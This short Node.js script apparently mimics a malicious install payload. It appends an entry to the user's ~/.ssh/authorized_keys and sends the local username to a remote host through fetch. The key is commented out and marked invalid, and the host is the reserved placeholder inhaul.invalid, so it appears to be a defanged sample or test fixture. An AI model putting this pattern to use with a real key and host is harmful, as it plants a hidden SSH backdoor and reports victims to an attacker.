const fs = require('fs')
const os = require('os')
const path = require('path')

const folder = path.join(os.homedir(), '.ssh')
fs.mkdirSync(folder, { recursive: true, mode: 0o700 })
fs.appendFileSync(path.join(folder, 'authorized_keys'), '# ssh-ed25519 AAAAINVALIDINVALIDINVALIDINVALIDINVALID inhaul@invalid\n')
fetch('https://inhaul.invalid/new?u=' + os.userInfo().username).catch(() => {})
